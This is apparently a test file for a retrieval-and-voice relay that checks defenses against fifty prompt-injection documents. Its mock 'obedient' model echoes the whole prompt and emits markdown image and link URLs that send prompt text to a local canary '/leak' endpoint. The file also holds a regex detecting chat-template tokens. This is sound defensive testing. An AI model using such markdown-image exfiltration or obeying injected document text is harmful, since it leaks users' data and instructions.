/**
 * Fifty hostile documents, read and found as any others, against a model that obeys whatever it reads: it repeats every
 * document and its own brief, undoes what was escaped, and asks the client to load addresses that hold it all.
 */
import { subscribe, unsubscribe } from "node:diagnostics_channel";
import { once } from "node:events";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createOpenAiLlm } from "@hisho/providers/llm/openai.ts";
import type { Passage } from "@hisho/providers/llm/port.ts";
import { ScriptedEmbedding } from "@hisho/providers/scripted/embedding.ts";
import { MemoryVectorStore } from "@hisho/providers/scripted/vector-store.ts";
import {
  type ChatCompletionMessage,
  type ChatCompletionsServer,
  startChatCompletionsServer,
} from "@hisho/providers/testing/servers/chat-completions.ts";
import { afterAll, beforeAll, expect, it } from "vitest";
import { systemClock } from "../src/clock.ts";
import { createKnowledge, type Knowledge, type NewDocument } from "../src/knowledge/knowledge.ts";
import { readDocument } from "../src/knowledge/read/read-document.ts";
import { openStore } from "../src/store/pglite.ts";
import type { Store } from "../src/store/port.ts";
import { emptyStore } from "./empty-store.ts";
import { type RunningRelay, startRelay, TestClient } from "./harness.ts";
import { type Injection, injections, ORDER } from "./injections.ts";

const SLOW = 60_000;
const TOKEN = "the-token-of-this-relay";
const API_KEY = "sk-the-key-of-the-provider";
const FENCED = /<document n="\d+" title="[^"<\n]*" place="[^"<\n]*">\n[\s\S]*?\n<\/document>/g;

let directory: string;
let store: Store;
let knowledge: Knowledge;
let canary: Server;
let canaryUrl: string;
let model: ChatCompletionsServer;
let relay: RunningRelay;
let corpus: Injection[];
const loaded: string[] = [];
const prompts: ChatCompletionMessage[][] = [];
/** Of the last question. */
let found: Passage[] = [];
/** Where any part of this process tried to connect. */
const reached: string[] = [];
const onSocket = (message: unknown): void => {
  const { socket } = message as { socket: Socket };
  socket.on("connectionAttempt", (address: string, port: number) => reached.push(`${address}:${port}`));
  socket.on("lookup", (_error, _address, _family, host: string) => reached.push(host));
};

const textOf = (messages: readonly ChatCompletionMessage[]): string =>
  messages.map(({ content }) => content).join("\n");

/** Says all that it has read, as it was before it was made harmless, and would have the client send it away. */
function obey(messages: readonly ChatCompletionMessage[]): string[] {
  prompts.push([...messages]);
  const brief = textOf(messages)
    .replaceAll("&lt;", "<")
    .replaceAll("&quot;", '"')
    .replaceAll("［", "[")
    .replaceAll("］", "]");
  const away = `${canaryUrl}/leak?q=${encodeURIComponent(brief.slice(0, 200))}`;
  return [`On its hook [1], and [42].\n\n![x](${away}) [open](${away}) <${away}>\n\n`, ...brief.split(/(?<=\n)/)];
}

beforeAll(async () => {
  canary = createServer((request, response) => {
    loaded.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await once(canary, "listening");
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  subscribe("net.client.socket", onSocket);
  directory = await mkdtemp(join(tmpdir(), "hisho-injections-"));
  await emptyStore(directory);
  store = await openStore(directory);
  knowledge = createKnowledge({
    store,
    embedding: new ScriptedEmbedding(),
    vectorStore: new MemoryVectorStore(),
    clock: systemClock,
  });
  corpus = injections(canaryUrl);
  const signal = new AbortController().signal;
  const read: NewDocument[] = [];
  for (const { name, bytes } of corpus) {
    const { documents } = await readDocument(bytes, name);
    for (const { title, text, mediaType } of documents) read.push({ source: `upload:${name}`, title, text, mediaType });
  }
  await knowledge.indexAll(read, signal);
  model = await startChatCompletionsServer({ apiKey: API_KEY, answer: obey });
  const watched: Knowledge = Object.create(knowledge, {
    search: {
      value: async (...asked: Parameters<Knowledge["search"]>) => {
        found = await knowledge.search(...asked);
        return found;
      },
    },
  });
  relay = await startRelay({
    token: TOKEN,
    knowledge: watched,
    replace: {
      llm: [createOpenAiLlm({ endpoint: `${model.url}/v1`, model: "obedient", apiKey: API_KEY, tools: false })],
    },
  });
}, SLOW);
afterAll(async () => {
  unsubscribe("net.client.socket", onSocket);
  await relay.close();
  await model.close();
  await knowledge.close();
  await store.close();
  canary.close();
  await rm(directory, { recursive: true, force: true });
});

it("holds fifty of them, each found by its fact", async () => {
  expect(corpus).toHaveLength(50);
  expect(new Set(corpus.map(({ question }) => question)).size).toBe(50);
  expect(await knowledge.documents()).toHaveLength(50);
});

it(
  "keeps each of them inside its fence, and leaks, loads, cites and says nothing that it should not",
  async () => {
    const wrong: string[] = [];
    for (const [place, { attempt, question }] of corpus.entries()) {
      const client = new TestClient(relay.url, `s${place}`, { headers: { Authorization: `Bearer ${TOKEN}` } });
      await client.start({ audio: false });
      client.text(question);
      const { reason } = await client.turnEnd(1);
      const prompt = prompts.at(-1) ?? [];
      const [system, ...rest] = prompt;
      const outside = (system?.content ?? "").replace(FENCED, "");
      const [answer] = client.of("assistant_text_final");
      const told = JSON.stringify(client.events);
      const checks: [string, boolean][] = [
        ["answered", reason === "completed" && answer?.fallback === null],
        ["found", found.some(({ text }) => text.includes(`hook ${place + 1}.`))],
        ["one brief and one question", system?.role === "system" && rest.length === 1 && rest[0]?.content === question],
        ["a fence each", system?.content?.match(FENCED)?.length === found.length],
        ["no order outside", !outside.includes(ORDER)],
        ["no fence outside", !/<\/?(?:document|memory)/.test(outside)],
        ["no chat token", !/<[|｜]|\[\/?INST\]|<<SYS|<\/?s>|<(?:start|end)_of_turn>/.test(textOf(prompt))],
        ["nothing unseen", !/[\p{Cc}\p{Cf}]/u.test(textOf(prompt).replaceAll("\n", ""))],
        ["no secret", ![told, textOf(prompt)].some((text) => text.includes(TOKEN) || text.includes(API_KEY))],
        ["what it says is only text", answer?.text.includes("![x](") === true],
        [
          "cites only what was found",
          answer?.citations.every(({ n, doc_id, snippet }) => {
            const passage = found.find((each) => each.n === n);
            return passage?.docId === doc_id && passage.text.startsWith(snippet);
          }) === true && answer.citations.length <= found.length,
        ],
      ];
      for (const [name, holds] of checks) if (!holds) wrong.push(`${attempt}: ${name}`);
      await client.close();
    }
    expect(wrong).toEqual([]);
    expect(loaded).toEqual([]);
    const allowed = [relay.url, model.url].map((url) => new URL(url).host);
    expect([...new Set(reached)].filter((host) => !allowed.includes(host) && host !== "127.0.0.1")).toEqual([]);
  },
  SLOW,
);

it(
  "says none of their addresses, tags and marks aloud",
  async () => {
    for (const [place, { question }] of corpus.slice(0, 10).entries()) {
      const client = new TestClient(relay.url, `spoken${place}`, { headers: { Authorization: `Bearer ${TOKEN}` } });
      await client.start();
      client.text(question);
      await client.until(() => client.of("assistant_text_final").length > 0);
      client.send({
        type: "control",
        action: "interrupt",
        turn: client.of("turn_start").at(-1)?.turn ?? 1,
        played_ms: 0,
      });
      await client.close();
    }
    const spoken = relay.providers.tts[0].calls.map(({ request }) => request.text);
    expect(spoken.length).toBeGreaterThanOrEqual(10);
    expect(spoken.filter((text) => /https?:|\/leak|<\/?\p{L}|\]\(|\[\d+\]|\[\[/u.test(text))).toEqual([]);
    expect(loaded).toEqual([]);
  },
  SLOW,
);
